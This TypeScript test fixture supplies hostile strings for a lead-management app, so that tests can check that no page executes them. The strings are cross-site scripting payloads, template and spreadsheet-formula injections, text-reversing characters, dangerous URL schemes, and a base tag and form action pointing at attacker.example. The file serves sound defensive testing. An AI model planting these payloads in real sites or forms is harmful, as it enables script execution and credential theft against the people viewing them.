import { type LeadField, leadFieldEntries } from '../../contract/lead-fields.ts'

/** Script that sets a flag; tests check that no page has run it. */
const strike = 'window.struck=1'

/**
 * Form input that tries to run a script on the pages of users who view the lead: tags, attributes,
 * URLs, templates, styles, and characters that reverse or hide text.
 */
export const hostileTexts: readonly string[] = [
  `<script>${strike}</script>`,
  `"><img src=x onerror=${strike}>`,
  `'><svg/onload=${strike}>`,
  `</textarea></title><script>${strike}</script>`,
  `<a href="javascript:${strike}">open</a>`,
  `<iframe srcdoc="<script>parent.struck=1</script>"></iframe>`,
  `<style>*{display:none}</style><base href="//attacker.example/">`,
  `<form action="//attacker.example"><button>Sign in</button></form>`,
  `{{constructor.constructor('${strike}')()}}`,
  `\${${strike}}`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${strike}>`,
  `<input autofocus onfocus=${strike}>`,
  `=HYPERLINK("http://attacker.example","${strike}")`,
  `\u202Eecived ruoy\u202C <b onmouseover=${strike}>bold</b>`,
  `${'<div>'.repeat(40)}${strike}`,
]

/** URLs that must not become links. */
export const hostileAddresses: readonly string[] = [
  `javascript:${strike}`,
  `JaVaScRiPt:${strike}//https://www.example.com`,
  `data:text/html,<script>${strike}</script>`,
  `vbscript:${strike}`,
  '//attacker.example/path',
]

const texts: ReadonlySet<string> = new Set(['text', 'json'])
const addresses: ReadonlySet<LeadField> = new Set(['website', 'referrer', 'path'])

/**
 * Leads with hostile strings in every string field; together, the leads cover every string in every
 * field.
 */
export function hostileLeads(): Record<string, unknown>[] {
  return hostileTexts.map((_, round) => {
    const lead: Record<string, unknown> = { email: `hostile-${round}@example.com` }
    for (const [i, [name, field]] of leadFieldEntries.entries()) {
      if (!texts.has(field.kind) || field.write === undefined) continue
      const corpus = addresses.has(name) ? [...hostileTexts, ...hostileAddresses] : hostileTexts
      const text = corpus[(round + i) % corpus.length] ?? ''
      lead[name] = field.kind === 'json' ? JSON.stringify({ [text]: text }) : text
    }
    return { ...lead, status: 'lost', name: hostileTexts[round] }
  })
}
